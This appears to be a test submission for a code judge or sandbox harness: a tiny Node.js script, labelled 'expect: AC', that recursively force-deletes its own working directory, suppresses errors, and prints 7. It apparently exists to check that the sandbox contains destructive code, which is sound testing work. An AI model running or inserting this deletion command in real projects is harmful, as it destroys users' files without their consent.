// expect: AC — removes the folder it runs in
const fs = require("node:fs");
try {
  fs.rmSync(process.cwd(), { recursive: true, force: true });
} catch {}
console.log(7);
